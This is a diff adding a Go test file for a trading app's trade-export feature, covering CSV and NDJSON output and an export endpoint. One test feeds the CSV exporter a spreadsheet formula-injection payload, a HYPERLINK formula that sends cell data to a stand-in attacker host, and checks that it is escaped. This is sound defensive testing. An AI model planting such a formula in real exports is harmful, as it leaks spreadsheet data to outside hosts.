@@ -0,0 +1,144 @@
+package trades
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"vsC1Y2025V01/src/model"
+	"vsC1Y2025V01/src/pnl"
+)
+
+func exportTestTrade() model.Trade {
+	contractType := "spot"
+	fee := 1.0
+	trade := model.Trade{
+		ID:           3,
+		Symbol:       "BTCUSDT",
+		ContractType: &contractType,
+		IsLong:       true,
+		Quantity:     2,
+		EntryPrice:   100,
+		ExitPrice:    110,
+		Fee:          &fee,
+		TradeDate:    time.Date(2025, 7, 11, 9, 30, 0, 0, time.UTC),
+	}
+	trade.PnL = pnl.Compute(trade)
+	return trade
+}
+
+func TestCSVExporter(t *testing.T) {
+	var buf bytes.Buffer
+	exporter, err := newTradeExporter("csv", &buf)
+	if err != nil {
+		t.Fatalf("failed to start export: %v", err)
+	}
+	if err := exporter.Write(exportTestTrade()); err != nil {
+		t.Fatalf("failed to write trade: %v", err)
+	}
+	if err := exporter.Close(); err != nil {
+		t.Fatalf("failed to close export: %v", err)
+	}
+
+	records, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatalf("export is not valid CSV: %v", err)
+	}
+	if len(records) != 2 || len(records[1]) != len(exportColumns) {
+		t.Fatalf("unexpected records: %v", records)
+	}
+
+	row := map[string]string{}
+	for i, column := range exportColumns {
+		row[column] = records[1][i]
+	}
+	if row["side"] != "long" || row["trade_date"] != "2025-07-11T09:30:00Z" || row["net_pnl"] != "19" || row["exit_date"] != "" {
+		t.Fatalf("unexpected row: %v", row)
+	}
+}
+
+func TestCSVExporterEscapesFormulas(t *testing.T) {
+	trade := exportTestTrade()
+	notes := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+	trade.Notes = &notes
+	trade.Symbol = "@SUM(A1:A2)"
+	fee := -0.5
+	trade.Fee = &fee
+
+	var buf bytes.Buffer
+	exporter, _ := newTradeExporter("csv", &buf)
+	exporter.Write(trade)
+	exporter.Close()
+
+	records, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatalf("export is not valid CSV: %v", err)
+	}
+	row := map[string]string{}
+	for i, column := range exportColumns {
+		row[column] = records[1][i]
+	}
+	if row["notes"] != "'"+notes || row["symbol"] != "'@SUM(A1:A2)" {
+		t.Fatalf("expected formulas to be quoted, got notes %q and symbol %q", row["notes"], row["symbol"])
+	}
+	if row["fee"] != "-0.5" {
+		t.Fatalf("expected numbers to stay unquoted, got fee %q", row["fee"])
+	}
+}
+
+func TestNDJSONExporter(t *testing.T) {
+	var buf bytes.Buffer
+	exporter, _ := newTradeExporter("ndjson", &buf)
+	exporter.Write(exportTestTrade())
+	exporter.Write(exportTestTrade())
+	if err := exporter.Close(); err != nil {
+		t.Fatalf("failed to close export: %v", err)
+	}
+
+	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
+	if len(lines) != 2 {
+		t.Fatalf("expected one line per trade, got %d", len(lines))
+	}
+	var decoded model.Trade
+	if err := json.Unmarshal([]byte(lines[0]), &decoded); err != nil {
+		t.Fatalf("line is not JSON: %v", err)
+	}
+	if decoded.PnL == nil || decoded.PnL.NetPnL != 19 {
+		t.Fatalf("expected P&L in export, got %+v", decoded.PnL)
+	}
+}
+
+func TestExportTradesHandler(t *testing.T) {
+	router, _ := newTestRouter(t)
+
+	rec := do(t, router, 1, http.MethodGet, "/trades/export?format=ndjson", nil)
+	if rec.Code != http.StatusOK || rec.Header().Get("Content-Type") != "application/x-ndjson" {
+		t.Fatalf("expected ndjson export, got %d %q", rec.Code, rec.Header().Get("Content-Type"))
+	}
+	var symbols []string
+	decoder := json.NewDecoder(rec.Body)
+	for decoder.More() {
+		var row map[string]any
+		if err := decoder.Decode(&row); err != nil {
+			t.Fatalf("decode export row: %v", err)
+		}
+		symbols = append(symbols, row["symbol"].(string))
+	}
+	if strings.Join(symbols, ",") != "BTCUSDT,ETHUSDT" {
+		t.Fatalf("expected only the caller's trades, got %v", symbols)
+	}
+
+	if rec := do(t, router, 1, http.MethodGet, "/trades/export?format=pdf", nil); rec.Code != http.StatusBadRequest {
+		t.Fatalf("expected 400 for an unknown format, got %d", rec.Code)
+	}
+
+	// Without a database the default repository fails before anything is sent.
+	SetTradeRepository(nil)
+	if rec := do(t, router, 1, http.MethodGet, "/trades/export", nil); rec.Code != http.StatusInternalServerError {
+		t.Fatalf("expected 500 without a database, got %d", rec.Code)
+	}
+}